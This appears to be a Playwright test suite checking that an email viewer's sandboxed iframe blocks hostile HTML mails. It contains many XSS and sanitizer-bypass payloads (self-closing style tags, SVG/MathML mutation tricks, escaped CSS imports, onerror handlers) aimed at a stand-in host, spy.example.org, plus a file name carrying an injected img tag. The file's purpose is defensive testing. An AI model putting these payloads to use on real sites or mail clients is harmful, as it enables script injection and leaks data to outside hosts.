import type { Browser, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { makeDatabase } from '../server/store/fixtures/database.ts'
import { findBrowser, launch } from './browser.ts'
import { type House, openHouse, openPage, settled } from './page.ts'

const found = await findBrowser()
const SPY = 'https://spy.example.org'
const BODY = '<h1>Uw factuur</h1><p>Uw factuur staat klaar in uw account. Betaal voor 1 mei.</p>'
const INJECTED = `<meta http-equiv=refresh content="0;url=${SPY}/m"><base href="${SPY}/"><img src="${SPY}/i"><form action="${SPY}/f"><input name=a><button>Betaal</button></form><iframe src="${SPY}/g"></iframe><script>top.hit=1</script>`

/** Mails that try to get mark-up of their own, or a load from elsewhere, through the frame. */
const HOSTILE: Readonly<Record<string, string>> = {
  'bare mark-up': `${BODY}${INJECTED}<object data="${SPY}/o"></object><embed src="${SPY}/e"><link rel=stylesheet href="${SPY}/l"><video poster="${SPY}/v" src="${SPY}/w"></video>`,
  'a style sheet that ends itself': `<style>p{color:red}<<//style>${INJECTED}</style>${BODY}`,
  'a style sheet that an import puts together': `<style><@import "a";/style>${INJECTED}</style>${BODY}`,
  'a style sheet that never ends': `${BODY}<style>p{color:red}<//style>${INJECTED}`,
  'a head in the words of an attribute': `<html title='<head>${INJECTED}'><body title='<head>${INJECTED}'>${BODY}</body></html>`,
  'addresses in style, written in another way': `<style>@im\\port "${SPY}/c";p{background:u\\72l(${SPY}/u);background-image:image-set("${SPY}/s" 1x);list-style:-webkit-image-set(url(${SPY}/k) 1x)}p[title^=a]{background:url(${SPY}/x)}</style>${BODY}<p title=a style="background:u\\72l(${SPY}/t);cursor:url(${SPY}/y),auto">Uw pakket komt morgen.</p>`,
  'svg and mathml': `${BODY}<svg onload="top.hit=1"><image href="${SPY}/a"/><use href="${SPY}/b#a"/><style>@import "${SPY}/c"</style><a xlink:href="javascript:top.hit=1"><text>x</text></a></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit=1&gt;">`,
  'links and events': `${BODY}<a href="javascript:top.hit=1" onclick="top.hit=1" target=_top ping="${SPY}/p">Betaal</a><img src=x onerror="top.hit=1"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${SPY}/d'/></svg>"><a href="&#106;avascript:top.hit=1">Bekijk</a><table background="${SPY}/b"><tr><td>Uw pakket komt morgen.</td></tr></table>`,
  'a title that ends itself': `<title>Uw factuur</title></title>${INJECTED}${BODY}`,
  'words that look like our marks': `<wrm-mark m='service"><script>top.hit=1</script>'>Uw factuur staat klaar.</wrm-mark>${BODY}<noscript><p title="</noscript><img src=x onerror=top.hit=1>">a</p></noscript><template><script>top.hit=1</script></template>`,
}

describe.skipIf(!found)('a hostile mail in the frame', { timeout: 60_000 }, () => {
  let browser: Browser
  let house: House
  let page: Page
  const asked: string[] = []
  beforeAll(async () => {
    if (!found) return
    ;[browser, house] = await Promise.all([launch(found), makeDatabase().then(openHouse)])
    page = await openPage(browser, house.address)
    page.context().on('request', (request: Request) => asked.push(request.url()))
  }, 120_000)
  afterAll(async () => {
    await browser?.close()
    await house?.close()
  })

  for (const [name, html] of Object.entries(HOSTILE))
    test(name, async () => {
      const file = { name: 'hostile"><img src=x onerror=top.hit=1>.html', mimeType: 'text/html' }
      await page.setInputFiles('input[type=file]', { ...file, buffer: Buffer.from(html) })
      await settled(page)
      await page.click('role=tab[name="Zoals ontvangen"]')
      const frame = page.locator('iframe')
      expect(await frame.getAttribute('sandbox')).toBe('')
      const shown = (await frame.getAttribute('srcdoc')) ?? ''
      // As the browser reads it: what is an element there, whatever it looks like in the source.
      const inside = await page.evaluate((source) => {
        const read = new DOMParser().parseFromString(source, 'text/html')
        const tags = 'script,iframe,object,embed,form,input,button,base,link,video,svg,math,meta[http-equiv=refresh]'
        const live = [...read.querySelectorAll('*')].flatMap((one) => [...one.attributes])
        return {
          elements: [...read.querySelectorAll(tags)].map((one) => one.outerHTML),
          attributes: live.filter((one) => /^on|^(?:href|action|ping|srcset|background)$/.test(one.name)).length,
          pictures: [...read.querySelectorAll('img')].filter((one) =>
            /^(?!data:image\/)./.test(one.getAttribute('src') ?? ''),
          ).length,
          policies: read.head.querySelectorAll('meta[http-equiv="Content-Security-Policy"]').length,
        }
      }, shown)
      expect(inside).toEqual({ elements: [], attributes: 0, pictures: 0, policies: 1 })
      await page.waitForTimeout(300)
      expect(
        asked.filter((url) => !url.startsWith(house.address) && !url.startsWith('data:') && url !== 'about:srcdoc'),
      ).toEqual([])
      expect(await page.evaluate(() => 'hit' in globalThis)).toBe(false)
      await page.click('role=button[name="Begin opnieuw"]')
    })
})
